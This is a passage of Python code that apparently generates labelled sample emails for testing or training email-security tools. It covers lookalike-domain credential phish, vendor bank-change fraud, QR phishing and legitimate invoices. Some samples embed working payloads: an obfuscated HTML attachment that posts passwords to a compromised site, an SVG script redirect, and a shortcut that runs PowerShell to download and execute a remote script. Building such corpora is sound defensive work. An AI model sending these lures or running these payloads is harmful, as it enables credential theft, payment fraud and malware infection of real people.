               f"List-Unsubscribe: <mailto:unsub-{r.b64url('un', 24)}@unsub-bnc.mailjet.com>"]
    a = AU(f"{r.b64url('rp', 27)}@bnc3.mailjet.com", ip, "pass", [(dom, "mailjet", "pass"), ("mailjet.com", "mailjet", "pass")],
           None, from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers, body, ptr=helo)
    return done("phishing", kind, slug,
                "Google Domains-to-Squarespace migration lure sent through Mailjet from a lookalike domain (auth passes, no DMARC), "
                "asking the church office to sign in with the Google account behind the domain; link hidden in mjt.lu tracking.",
                data)


@sample
def workspace_suspension_onmicrosoft():
    kind, slug = "phish", "workspace-billing-suspended-onmicrosoft-oakmere"
    r = S(kind, slug)
    c = CLIENTS["oakmere"]
    t = T(2026, 1, 13, 6, 37, 55)
    rcpt = "claire.dobson@oakmereprep.co.uk"
    tenant = "ewxpl5nk"
    frm = f"admin@{tenant}.onmicrosoft.com"
    link = f"https://www.google.com/url?q=https://workspace-billing-restore.com/u/0/?admin%3D{base64.b64encode(rcpt.encode()).decode()}&amp;sa=D&amp;source=editors&amp;ust={int(t.timestamp())}000000&amp;usg=AOvVaw{r.b64url('usg', 18)}"
    html = kit_html("Google Workspace", "#ffffff",
                    '<span style="font-size:22px;color:#4285f4">G</span><span style="font-size:22px;color:#ea4335">o</span><span style="font-size:22px;color:#fbbc05">o</span><span style="font-size:22px;color:#4285f4">g</span><span style="font-size:22px;color:#34a853">l</span><span style="font-size:22px;color:#ea4335">e</span><span style="font-size:18px;color:#5f6368;padding-left:6px">Workspace</span>',
                    ["Hello Administrator,",
                     "We were unable to charge your payment method for the Google Workspace for Education subscription for "
                     "<b>oakmereprep.co.uk</b> (Invoice #52" + str(r.num('inv', 10**7, 10**8 - 1)) + ").",
                     "<b>Your organisation's services have been suspended.</b> Users will lose access to Gmail, Drive and Meet after "
                     "<b>72 hours</b> and data may be permanently deleted.",
                     "To restore service, sign in to the Admin console and update your billing details."],
                    "Restore service", link, "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043. You have received this "
                    "mandatory service announcement to update you about important changes to your Google Workspace account.",
                    "#1a73e8", font="Roboto,Arial,sans-serif")
    body = Multi("alternative", oboundary(r, "alt"), [text(strip_tags(html)), text(html, "html")])
    transport, fields, helo, ip, msgid = exo_sender(r, t, f"{tenant}.onmicrosoft.com", "nam", False, f"{tenant}.onmicrosoft.com",
                                                    f"selector1-{tenant}-onmicrosoft-com",
                                                    thread_topic="Google Workspace: Services suspended - payment failed")
    headers = [f"From: Google Workspace <{frm}>", f"To: \"{rcpt}\" <{rcpt}>",
               "Subject: [Action Required] Google Workspace: Services suspended - payment failed"] + xf(fields, t, "UTC")
    a = AU(frm, ip, "pass", [(f"{tenant}.onmicrosoft.com", f"selector1-{tenant}-onmicrosoft-com", "pass")], "pass",
           "p=NONE sp=NONE dis=NONE", from_dom=f"{tenant}.onmicrosoft.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, transport, headers, body, ms_arc=True,
                   rdns=f"mail-{helo.split('-')[1].lower()}{helo.split('-')[0].lower()}on2{r.num('on2', 100, 999)}.outbound.protection.outlook.com")
    return done("phishing", kind, slug,
                "Google Workspace billing-suspension notice sent from a throwaway *.onmicrosoft.com tenant (Microsoft's DKIM and "
                "DMARC pass for that domain) to the school bursar, routed through a google.com/url redirect.",
                data)


@sample
def m365_password_expiry():
    kind, slug = "phish", "m365-password-expiry-compromised-ovh-aldhelm"
    r = S(kind, slug)
    c = CLIENTS["aldhelm"]
    t = T(2024, 6, 4, 5, 44, 17)
    rcpt = "julie.harding@staldhelms.org.uk"
    dom = "lesjardinsdumarais-traiteur.fr"
    link = f"https://ipfs.io/ipfs/bafybei{r.alnum('cid', 52, 'abcdefghijklmnopqrstuvwxyz234567')}/index.html#{rcpt}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Segoe UI,Tahoma,sans-serif;font-size:14px;color:#333;max-width:520px">
<p style="font-size:20px;color:#0072c6">staldhelms.org.uk</p>
<p>Password Expiry Notice for <b>{rcpt}</b></p>
<p>The password to your mailbox <b>{rcpt}</b> expires today <b>{t.astimezone(ZoneInfo('Europe/London')):%d/%m/%Y}</b>.</p>
<p>You can change your password or continue using current password.</p>
<p><a href="{link}" style="background:#0072c6;color:#fff;padding:8px 20px;text-decoration:none">Keep Current Password</a></p>
<p style="font-size:11px;color:#888">Note: staldhelms.org.uk will not be held responsible for any account loss.<br>This message was sent automatically by Microsoft 365 mail administrator for staldhelms.org.uk</p>
</div></body></html>
"""
    body = Multi("alternative", f"----=_Part_{r.num('p', 100, 999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    ip = f"46.105.{r.num('c3', 32, 79)}.{r.num('c4', 2, 250)}"
    helo = f"mo{r.num('mo', 500, 699)}.mail-out.ovh.net"
    sender = [f"Received: from mxplan{r.num('mx', 1, 9)}.mail.ovh.net (unknown [10.108.{r.num('x', 1, 60)}.{r.num('y', 2, 250)}])\n\tby {helo} (Postfix) with ESMTPS id 4V{r.alnum('q', 9, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(UTC))}",
              f"Received: from [197.210.{r.num('v3', 40, 90)}.{r.num('v4', 2, 250)}] (197.210.{r.num('v3', 40, 90)}.{r.num('v4', 2, 250)}) by DAG{r.num('dag', 1, 9)}EX{r.num('ex', 1, 2)}.mxp{r.num('mxp', 1, 9)}.local\n (172.16.2.{r.num('z', 10, 90)}) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.39; {rfc(t, 'Europe/Paris')}"]
    headers = [f"From: \"Mail Administrator\" <info@{dom}>", f"To: <{rcpt}>",
               f"Subject: Password Expiry Notice for {rcpt}", f"Date: {rfc(t, 'Europe/Paris')}",
               f"Message-ID: <{r.hex('m', 8)}-{r.hex('m2', 4)}-{r.hex('m3', 4)}@DAG{r.num('dag', 1, 9)}EX{r.num('ex', 1, 2)}.mxp{r.num('mxp', 1, 9)}.local>",
               "MIME-Version: 1.0", f"X-Ovh-Tracer-Id: {r.num('tr', 10**18, 10**19 - 1)}", "X-VR-SPAMSTATE: OK",
               "X-VR-SPAMSCORE: -100", f"X-VR-SPAMCAUSE: gggruggvucftvghtrhhoucdtuddrgedvledrvdefjedg{r.alnum('vr', 40)}"]
    a = AU(f"info@{dom}", ip, "pass", [], None, from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers, body, ctry="FR", lang="en", ptr=helo)
    return done("phishing", kind, slug,
                "Password-expiry notice styled with the parish's own domain name but sent from a French caterer's compromised OVH "
                "Exchange mailbox (SPF pass, unsigned), linking to an IPFS gateway page with the recipient in the fragment.",
                data)


@sample
def charity_commission_lookalike():
    kind, slug = "phish", "charity-commission-annual-return-opentable"
    r = S(kind, slug)
    c = CLIENTS["opentable"]
    t = T(2025, 2, 26, 9, 3, 44)
    rcpt = "finance@opentablesheffield.org.uk"
    dom = "charitycommission-gov.uk"
    short = f"https://t.ly/{r.mixed('tly', 5)}"
    html = kit_html("The Charity Commission", "#1d70b8", '<span style="color:#fff;font-size:18px;font-weight:bold">The Charity Commission</span>',
                    ["Dear Trustee,",
                     "<b>Charity name:</b> OPEN TABLE SHEFFIELD<br><b>Registered charity number:</b> 1168" + str(r.num('rcn', 100, 999)),
                     "Our records show that the <b>annual return for the financial period ending 31/03/2024 is overdue</b>. Charities "
                     "that fail to submit their annual return may be marked as 'in default' on the public register and referred for "
                     "regulatory action.",
                     "Please log in to your charity's account and submit the return within <b>7 days</b>."],
                    "Log in to submit annual return", short,
                    "The Charity Commission for England and Wales, PO Box 211, Bootle L20 7YX. Please do not reply to this email.",
                    "#00703c")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"The Charity Commission <noreply@{dom}>",
                    subject="Annual return overdue - OPEN TABLE SHEFFIELD - action required within 7 days", html=html,
                    ip=f"194.26.{r.num('c3', 192, 223)}.{r.num('c4', 2, 250)}", client_ip=f"41.58.{r.num('v3', 0, 255)}.{r.num('v4', 2, 250)}",
                    tz="Europe/London", dmarc=None, ctry="NL")
    return done("phishing", kind, slug,
                "Charity Commission 'annual return overdue' threat from a gov-uk lookalike domain (SPF/DKIM pass, no DMARC) with "
                "the login behind a t.ly short link.",
                data)


@sample
def buildingconnected_bid():
    kind, slug = "phish", "buildingconnected-bid-invite-lookalike-ironridge"
    r = S(kind, slug)
    c = CLIENTS["ironridge"]
    t = T(2025, 2, 25, 17, 19, 28)
    rcpt = "kbrandt@ironridgecontracting.com"
    dom = "buildingconnected-bids.com"
    link = f"https://app.{dom}/public/{r.hex('bc', 24)}/projects/{r.hex('pr', 24)}/bid-invite"
    html = kit_html("BuildingConnected", "#ffffff",
                    '<span style="color:#0696d7;font-size:20px;font-weight:bold">BuildingConnected</span>'
                    '<span style="color:#666;font-size:12px;padding-left:8px">an Autodesk company</span>',
                    ["<b>Vantage Peak Builders</b> has invited you to bid on a project.",
                     "<b>Project:</b> Folsom Medical Office Building &#8211; Phase 1<br><b>Bid package:</b> 02 &#8211; Sitework, "
                     "Underground Utilities &amp; Site Concrete<br><b>Location:</b> Folsom, CA<br><b>Bids due:</b> 03/14/2025 2:00 PM PST",
                     "Plans, specifications and the bid form are available in the project files. Please sign in with your company email "
                     "to view files and indicate whether you will bid.",
                     "Estimator: Jason Hurtado | jhurtado@vantagepeakbuilders.com"],
                    "View Bid Invite", link,
                    "BuildingConnected, an Autodesk company. 1 Market St, Ste 400, San Francisco, CA 94105. You received this because "
                    "Vantage Peak Builders added you to their bidders list.", "#0696d7")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"\"Vantage Peak Builders via BuildingConnected\" <notifications@{dom}>",
                    subject="Invitation to Bid: Folsom Medical Office Building - Phase 1 (Sitework & Site Concrete)", html=html,
                    ip=f"23.95.{r.num('c3', 0, 255)}.{r.num('c4', 2, 250)}", client_ip="127.0.0.1", tz="America/Los_Angeles",
                    dmarc="pass", ctry="US", mailer=None)
    return done("phishing", kind, slug,
                "Bid invitation in BuildingConnected's format for a real-sounding local project, from a lookalike domain with its "
                "own passing SPF/DKIM/DMARC, asking the project manager to sign in to see the plans.",
                data)


@sample
def adp_spanish_paystub():
    kind, slug = "phish", "adp-recibo-de-pago-spanish-ironridge"
    r = S(kind, slug)
    c = CLIENTS["ironridge"]
    t = T(2025, 4, 2, 13, 11, 50)
    rcpt = "lortega@ironridgecontracting.com"
    dom = "adp-portalempleados.com"
    link = f"https://acceso-nomina.{r.alnum('sd', 5)}.ru/adp/?u={base64.b64encode(rcpt.encode()).decode()}"
    html = kit_html("ADP", "#d0271d", '<span style="color:#fff;font-size:24px;font-weight:bold;font-style:italic">ADP</span>',
                    ["Estimado(a) empleado(a):",
                     "Su recibo de pago correspondiente al período <b>16/03/2025 &#8211; 31/03/2025</b> ya está disponible en el "
                     "portal de empleados.",
                     "Por motivos de seguridad, hemos actualizado nuestro sistema de verificación. Debe <b>verificar su cuenta antes del "
                     "04/04/2025</b> para seguir recibiendo su depósito directo sin interrupciones. Si no completa la verificación, su "
                     "próximo pago podría retrasarse.",
                     "Gracias,<br>Servicios de Nómina ADP"],
                    "Ver mi recibo de pago", link,
                    "ADP, Inc. Este es un mensaje automático, por favor no responda. &copy; 2025 ADP, Inc. Todos los derechos reservados.",
                    "#d0271d")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"=?UTF-8?B?{base64.b64encode('ADP Nómina'.encode()).decode()}?= <notificaciones@{dom}>",
                    subject=hdr_encode("Su recibo de pago está disponible - acción requerida"), html=html,
                    ip=f"5.188.{r.num('c3', 0, 255)}.{r.num('c4', 2, 250)}", client_ip=f"186.{r.num('v2', 0, 255)}.{r.num('v3', 0, 255)}.{r.num('v4', 2, 250)}",
                    tz="America/Mexico_City", dmarc=None, ctry="RU", lang="es")
    return done("phishing", kind, slug,
                "Spanish-language ADP pay-stub lure to the construction company's foreman, from an ADP lookalike (SPF/DKIM pass) "
                "threatening a delayed direct deposit and linking to a .ru page with his address encoded.",
                data)


# =========================================================================== attacks: attachments and reply-chain fraud

@sample
def efax_html_attachment():
    kind, slug = "phish", "efax-html-attachment-credential-keystone"
    r = S(kind, slug)
    c = CLIENTS["keystone"]
    t = T(2024, 9, 17, 13, 26, 8)
    rcpt = "rfisher@keystonelandtitle.com"
    dom = "efax-messaging.net"
    post = f"https://brightsidepediatricdental.com/wp-admin/css/colors/ectoplasm/fax/next.php"
    inner = (f'<div style="font-family:Segoe UI,Arial;max-width:380px;margin:60px auto;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)">'
             f'<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108"><h2 style="font-weight:600">Sign in to view fax</h2>'
             f'<p style="font-size:13px">This fax (4 pages) is protected. Confirm your email password to open the document.</p>'
             f'<form method="POST" action="{post}"><input name="login" value="{rcpt}" readonly style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0">'
             f'<input name="passwd" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin-top:16px">'
             f'<button style="margin-top:24px;background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right">Sign in</button></form></div>')
    enc = base64.b64encode(inner.encode()).decode()
    html_att = (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>eFax Document Viewer - FAX_{r.num('fx', 1000000, 9999999)}</title>\n"
                f"<style>body{{background:url('https://www.efax.com/images/efax-fax-bg.jpg') center/cover;}}</style></head><body>\n"
                f"<script>\nvar _0x{r.hex('v1', 4)}=['{enc[:60]}','{enc[60:]}'];\nvar _0x{r.hex('v2', 4)}=function(a){{return a.join('')}};\n"
                f"document.write(atob(_0x{r.hex('v2', 4)}(_0x{r.hex('v1', 4)})));\n"
                f"fetch('https://api.ipify.org?format=json').then(function(r){{return r.json()}}).then(function(j){{window._ip=j.ip}});\n"
                f"</script>\n</body></html>\n")
    plain = (f"You have received a 4 page fax at {t.astimezone(ZoneInfo('America/New_York')):%m/%d/%Y %I:%M:%S %p} EDT.\n\n"
             f"* The reference number for this fax is hbg1_did11-{int(t.timestamp())}-7172389914-74.\n\n"
             "Please open the attached file to view your fax. The attachment can be viewed in any web browser.\n\n"
             "Please visit www.efax.com/en/efax/help if you have any questions regarding this message or your service.\n\n"
             "Thank you for using the eFax service!\n\n"
             "Happy Faxing,\nThe eFax Team\n")
    html = "<html><body><pre style=\"font-family:Arial;font-size:13px\">" + plain.replace("&", "&amp;") + "</pre></body></html>\n"
    att = Leaf("text/html", html_att.encode(), "base64", f'; name="FAX_7172389914_4pgs.html"', 'attachment; filename="FAX_7172389914_4pgs.html"')
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"eFax <message@{dom}>",
                    subject="eFax message from \"717-238-9914\" - 4 page(s), Caller-ID: +1 717 238 9914", html=html,
                    plain=plain, ip=f"104.168.{r.num('c3', 0, 255)}.{r.num('c4', 2, 250)}", client_ip="127.0.0.1",
                    tz="America/New_York", dmarc=None, ctry="US", attachments=[att], mailer=None)
    return done("phishing", kind, slug,
                "eFax notification from a lookalike sender with an HTML 'fax' attachment that writes a Microsoft sign-in form "
                "(the closer's address prefilled) from base64 and posts the password to a compromised WordPress site.",
                data)


@sample
def voicemail_svg():
    kind, slug = "phish", "voicemail-svg-attachment-own-domain-spoof-summit"
    r = S(kind, slug)
    c = CLIENTS["summit"]
    t = T(2025, 4, 22, 15, 9, 33)
    rcpt = "bkeller@summitcresttitle.com"
    dest = base64.b64encode(f"https://vm-playback.{r.alnum('d', 7)}.es/v/?c={r.hex('c', 8)}&e=".encode()).decode()
    em = base64.b64encode(rcpt.encode()).decode()
    svg = (f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">\n'
           f'<rect width="420" height="120" rx="10" fill="#f3f3f3"/><circle cx="60" cy="60" r="28" fill="#0a66c2"/>'
           f'<polygon points="52,46 52,74 74,60" fill="#ffffff"/><text x="110" y="56" font-family="Arial" font-size="16">Voice Message (00:47)</text>'
           f'<text x="110" y="80" font-family="Arial" font-size="12" fill="#666">Loading secure playback...</text>\n'
           f'<script type="text/javascript"><![CDATA[\n  var {r.alnum("a", 5)} = "{em}";\n  var {r.alnum("b", 5)} = "{dest}";\n'
           f'  setTimeout(function(){{ window.location.href = atob({r.alnum("b", 5)}) + {r.alnum("a", 5)}; }}, 600);\n]]></script>\n</svg>\n')
    html = f"""<html><body style="font-family:Calibri,Arial,sans-serif;font-size:14px">
<table cellpadding="6" style="border:1px solid #ccc;font-size:13px"><tr><td colspan="2" style="background:#0a66c2;color:#fff;font-weight:bold">New Voicemail Received</td></tr>
<tr><td>From:</td><td>+1 (208) 585-6610</td></tr><tr><td>To:</td><td>Brad Keller (ext. 104)</td></tr>
<tr><td>Received:</td><td>{t.astimezone(ZoneInfo('America/Boise')):%A, %B %d, %Y %I:%M %p}</td></tr><tr><td>Duration:</td><td>00:47</td></tr></table>
<p>Play the attached message to listen. Voicemail is kept for 7 days.</p>
<p style="color:#888;font-size:11px">Summit Crest Title &amp; Escrow Unified Communications</p></body></html>
"""
    att = Leaf("image/svg+xml", svg.encode(), "base64", '; name="VM_Playback_00m47s.svg"', 'attachment; filename="VM_Playback_00m47s.svg"')
    host = f"ns{r.num('ns', 100, 999)}.{r.alnum('h', 6)}hosting.com"
    data = kit_send(r, c, rcpt, t, dom="summitcresttitle.com", from_hdr="Voice Mail <voicemail@summitcresttitle.com>",
                    subject="Voice Message Received for Brad Keller (00:47) - Caller +1 (208) 585-6610", html=html, host=host,
                    ip=f"198.12.{r.num('c3', 0, 255)}.{r.num('c4', 2, 250)}", client_ip="127.0.0.1", tz="America/Boise",
                    dkim_ok=False, dmarc="fail", spf="softfail", mailfrom=f"voicemail@summitcresttitle.com",
                    policy="p=QUARANTINE sp=QUARANTINE dis=QUARANTINE", attachments=[att], ctry="US", mailer=None,
                    verdict=dict(scl=5, sfv="SPM", cat="SPOOF", dest="J"))
    return done("phishing", kind, slug,
                "Voicemail notice spoofing the title company's own domain (SPF softfail, DMARC quarantine fails, junked) with an "
                "SVG 'playback' attachment whose script redirects to a phishing page with the owner's address appended.",
                data)


@sample
def vec_compromised_supplier():
    kind, slug = "phish", "vendor-bank-change-compromised-supplier-thread-bramley"
    r = S(kind, slug)
    c = CLIENTS["bramley"]
    t = T(2025, 10, 14, 10, 36, 2)
    rcpt = "paula.hendry@bramleybuild.co.uk"
    paras = ["Hi Paula,", "",
             "Thanks for confirming AfP 14 is approved. Before Friday's payment run please note we have moved our business "
             "banking to Starling, our letter on headed paper is attached with the new details. Our Lloyds account is being closed so "
             "please don't send anything to the old account as it will be returned and delay the payment.", "",
             "Could you confirm once you've updated your system? I'm out on site visits most of this week so email is best.", "",
             "Many thanks", "Lisa", "",
             '<b>Lisa Grant</b> | Accounts Manager', 'Surrey Scaffold Services Ltd', 'Unit 7, Slyfield Industrial Estate, Guildford GU1 1RR',
             'T: 01483 302 418', "",
             '<span style="font-size:8.0pt;color:gray">Surrey Scaffold Services Ltd. Registered in England No. 07781342. NASC member.</span>']
    qh, qp = quote_outlook("Paula Hendry &lt;paula.hendry@bramleybuild.co.uk&gt;", "13 October 2025 16:12",
                           "Lisa Grant &lt;lisa.grant@surreyscaffold.co.uk&gt;", "RE: Application for Payment 14 - Wey Court",
                           ["Hi Lisa,", "", "AfP 14 (&pound;18,640.00 + VAT) is approved and will go in Friday's payment run.", "",
                            "Kind regards", "Paula", "Paula Hendry | Accounts | Bramley Build Ltd"])
    qh2, qp2 = quote_outlook("Lisa Grant &lt;lisa.grant@surreyscaffold.co.uk&gt;", "09 October 2025 11:47",
                             "Paula Hendry &lt;paula.hendry@bramleybuild.co.uk&gt;", "Application for Payment 14 - Wey Court",
                             ["Hi Paula,", "", "Please find attached our Application for Payment no. 14 for Wey Court (scaffold hire weeks "
                              "38-41 and adaptations to the east elevation).", "", "Many thanks", "Lisa"])
    alt_part = outlook_msg(r, paras, qh + qh2, qp + qp2, lang="EN-GB")
    pdf = text_pdf(["SURREY SCAFFOLD SERVICES LTD", "Unit 7, Slyfield Industrial Estate, Guildford GU1 1RR", "", "14 October 2025", "",
                    "To all our valued customers", "", "RE: CHANGE OF BANK DETAILS", "",
                    "Please be advised that with effect from 13 October 2025 our bank details have changed to:", "",
                    "Bank: Starling Bank", "Account name: Surrey Scaffold Services", "Sort code: 60-83-71", "Account number: 29914087", "",
                    "Please update your records and make all future payments to the above account.", "",
                    "Yours sincerely,", "Lisa Grant, Accounts Manager"],
                   "Change of bank details", "Microsoft: Print To PDF", date="D:20251014092211+01'00'")
    body = Multi("mixed", oboundary(r, "mix", "004"), [alt_part, attachment("application/pdf", "SSS - Change of Bank Details.pdf", pdf)])
    refs = (f"<LO2P265MB{r.num('r1', 1000, 9999)}{r.hex('r1h', 20, True)}@LO2P265MB{r.num('r1', 1000, 9999)}.GBRP265.PROD.OUTLOOK.COM> "
            f"<CWXP265MB{r.num('r2', 1000, 9999)}{r.hex('r2h', 20, True)}@CWXP265MB{r.num('r2', 1000, 9999)}.GBRP265.PROD.OUTLOOK.COM>")
    data = send_exo(r, c, rcpt, t, "lisa.grant@surreyscaffold.co.uk", "Lisa Grant <lisa.grant@surreyscaffold.co.uk>",
                    "Paula Hendry <paula.hendry@bramleybuild.co.uk>", "RE: Application for Payment 14 - Wey Court", body,
                    "Europe/London", region="gbr", has_attach=True, refs=refs, lang="en-GB", ctry="GB",
                    policy="p=NONE sp=NONE dis=NONE")
    return done("phishing", kind, slug,
                "Vendor email compromise: the scaffolding supplier's real Microsoft 365 mailbox (all authentication passes) "
                "replies inside the genuine payment thread with a 'change of bank details' letter before the payment run.",
                data)


@sample
def vec_lookalike_thread():
    kind, slug = "phish", "vendor-ach-change-lookalike-thread-hijack-ironridge"
    r = S(kind, slug)
    c = CLIENTS["ironridge"]
    t = T(2024, 3, 20, 17, 48, 31)
    rcpt = "mdelgado@ironridgecontracting.com"
    dom = "deltareadymlx.com"
    sig = gsig("Tom Sandoval", "Credit &amp; Collections", "Delta Ready Mix, Inc.", "2150 Evergreen St, Sacramento, CA 95815",
               "(916) 929-4410")
    paras = ["Hi Maria,", "",
             "Thanks for getting back to me. Since both invoices are now past 60 days, our controller has asked that the payment "
             "for 58812 and 58840 ($46,917.35 total) be sent by ACH to our new operating account, as we are no longer accepting "
             "checks at our lockbox:", "",
             "Bank: Pacific Western Commerce Bank", "Routing: 122243761", "Account: 4400871925", "Account name: Delta Ready Mix Inc", "",
             "Please send the remittance to this email once released so we can remove the credit hold on your account before "
             "next week's pours.", "", "Thank you,"]
    q = gq("On Wed, Mar 20, 2024 at 9:12 AM Maria Delgado &lt;<a href=\"mailto:mdelgado@ironridgecontracting.com\">mdelgado@ironridgecontracting.com</a>&gt; wrote:",
           ["Hi Tom,", "", "Sorry for the delay on these, Dale was out last week. I can get 58812 and 58840 paid this week. Do you "
            "still want a check to the lockbox?", "", "Maria Delgado", "Office Manager | Ironridge Contracting", "(916) 381-2275", "",
            "On Tue, Mar 19, 2024 at 2:03 PM Tom Sandoval &lt;tsandoval@deltareadymix.com&gt; wrote:",
            "&gt; Maria, following up on the attached statement. Invoices 58812 and 58840 are past due.",
            "&gt; Please advise on payment status. Tom"])
    body = gmail_alt(r, paras, sig, q)
    refs = f"{gmail_msgid(r, 'r1')} {gmail_msgid(r, 'r2')}"
    data = send_gmail(r, c, rcpt, t, f"tsandoval@{dom}", f"Tom Sandoval <tsandoval@{dom}>", "Maria Delgado <mdelgado@ironridgecontracting.com>",
                      "Re: Past due - Invoice 58812 / 58840", body, "America/Los_Angeles", dkim_d=dom, selector="google",
                      dmarc=None, refs=refs, cc=f"\"ar@deltareadymix.com\" <ar@{dom}>")
    return done("phishing", kind, slug,
                "Thread hijack from a one-letter lookalike of the concrete supplier (deltareadymlx.com on Google Workspace, no "
                "DMARC) continuing a real past-due conversation and asking for ACH to a new account, Cc'ing a lookalike AR box.",
                data)


@sample
def qr_handbook_pdf():
    kind, slug = "phish", "qr-code-handbook-acknowledgement-pdf-tallgrass"
    r = S(kind, slug)
    c = CLIENTS["tallgrass"]
    t = T(2025, 3, 3, 14, 55, 17)
    rcpt = "amber@tallgrassdigital.com"
    dom = "peoplesync-hr.com"
    qr_url = f"https://tallgrassdigital.hr-acknowledge.com/sign/?id={r.hex('id', 12)}&e={base64.b64encode(rcpt.encode()).decode()}"
    pdf = qr_pdf(["Tallgrass Digital - 2025 Employee Handbook", "Acknowledgement of receipt required",
                  "Amber Holt, please review and e-sign the updated 2025 Employee Handbook",
                  "(remote work, PTO accrual and expense policy changes) by Friday, March 7.", "",
                  "Scan the QR code below with your phone camera to open the secure signing page."],
                 qr_url, ["Secure document ID: " + r.hex("doc", 16).upper(), "This document expires in 72 hours.",
                          "HR Document Services on behalf of Tallgrass Digital"],
                 "2025 Employee Handbook Acknowledgement", "PDFsharp 1.50.5147 (www.pdfsharp.com)")
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<p>Hello Amber,</p>
<p>The 2025 Employee Handbook has been updated. All employees must review and acknowledge receipt of the new handbook by <b>Friday, March 7, 2025</b>.</p>
<p>Please open the attached document and scan the QR code with your mobile device to complete your acknowledgement. For security reasons the signing page can only be opened on a mobile device.</p>
<p>Thank you,<br>HR Document Services<br>on behalf of Tallgrass Digital</p>
</body></html>
"""
    att = attachment("application/pdf", "2025_Employee_Handbook_Acknowledgement_AHolt.pdf", pdf)
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"\"HR Document Services | Tallgrass Digital\" <documents@{dom}>",
                    subject="ACTION REQUIRED: 2025 Employee Handbook Acknowledgement - Amber Holt", html=html,
                    ip=f"45.88.{r.num('c3', 88, 91)}.{r.num('c4', 2, 250)}", client_ip=f"154.{r.num('v2', 0, 255)}.{r.num('v3', 0, 255)}.{r.num('v4', 2, 250)}",
                    tz="America/Chicago", dmarc="pass", ctry="US", attachments=[att], mailer=None)
    return done("phishing", kind, slug,
                "Handbook-acknowledgement 'quishing': an HR-services lookalike (auth passes) attaches a PDF whose only call to "
                "action is a QR code image (no link annotation) to a phishing page on a tenant-named subdomain.",
                data)


@sample
def password_zip_lnk():
    kind, slug = "phish", "password-zip-lnk-year-end-docs-tillbrook"
    r = S(kind, slug)
    c = CLIENTS["tillbrook"]
    t = T(2025, 5, 28, 16, 2, 55)
    rcpt = "neil@tillbrookaccountants.co.uk"
    me = "pell.joinery@gmail.com"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w 1 -ep bypass -nop -c \"$u='https://pelljoinery-docs.com/cdn/yr.txt';iex((New-Object Net.WebClient).DownloadString($u))\"")
    decoy = b"Year end pack - see statements shortcut.\r\n"
    z = zipcrypto([("Pell_Joinery_YearEnd_2024-25/Bank_Statements_Apr24-Mar25.pdf.lnk", lnk),
                   ("Pell_Joinery_YearEnd_2024-25/readme.txt", decoy)], b"Pell2025", r)
    paras = ["Hi Neil,", "",
             "As discussed on the phone here's the year end pack for Pell Joinery (bank statements, sales ledger and the P60s for "
             "me and Dan). I've zipped it with a password as it has the bank statements in it.", "",
             "Password is: Pell2025", "",
             "Let me know if you need anything else for the accounts.", "", "Cheers", "Graham", "",
             "Graham Pell", "Pell Joinery", "07700 914 552"]
    alt_part = gmail_alt(r, paras)
    body = Multi("mixed", gboundary(r, "mx"), [alt_part, attachment("application/zip", "Pell_Joinery_YearEnd_2024-25.zip", z)])
    data = send_gmail(r, c, rcpt, t, me, f"Graham Pell <{me}>", "Neil Tillbrook <neil@tillbrookaccountants.co.uk>",
                      "Year end docs - Pell Joinery", body, "Europe/London", ctry="GB")
    return done("malware", kind, slug,
                "Client-style Gmail message with a ZipCrypto-encrypted archive (password in the body) hiding a .pdf.lnk shortcut "
                "that runs PowerShell to download and execute a script; scanners cannot see inside without the password.",
                data)


# =========================================================================== legitimate: invoices, payroll, tax, domains

@sample
def legit_quickbooks_supplier():
    kind, slug = "bulk", "quickbooks-invoice-rebar-supplier-ironridge"
    r = S(kind, slug)
    c = CLIENTS["ironridge"]
    t = T(2025, 3, 4, 16, 41, 9)
    rcpt = "ap@ironridgecontracting.com"
    link = f"https://connect.intuit.com/t/scs-v1-{r.hex('scs', 64)}?cta=viewinvoicenow&amp;locale=en_US"
    note = ("Hi Maria,\n\nInvoice 24-1187 for the #5 and #6 rebar and tie wire delivered to the Elk Grove tilt-up job on 2/26 is attached. "
            "Terms are Net 30 as usual. You can pay online by ACH or card, or mail a check to our yard.\n\nThanks for the business,\n"
            "Karen Voss\nValley Rebar Supply | (916) 372-0841")
    html = quickbooks_html(r, "Valley Rebar Supply, Inc.", "ar@valleyrebarsupply.com", "24-1187", "8,426.13", "04/03/2025", note, link,
                           phone="(916) 372-0841")
    pdf = text_pdf(["Valley Rebar Supply, Inc.", "3301 Industrial Blvd, West Sacramento, CA 95691", "", "INVOICE 24-1187",
                    "Date: 03/04/2025   Terms: Net 30   Due: 04/03/2025", "Bill to: Ironridge Contracting, 8840 Folsom Blvd, Sacramento CA",
                    "Ship to: Elk Grove Tilt-Up - Lot 14, Grant Line Rd", "",
                    "#5 Grade 60 rebar 20' (240 pcs) ................ 4,512.00", "#6 Grade 60 rebar 20' (110 pcs) ................ 2,998.50",
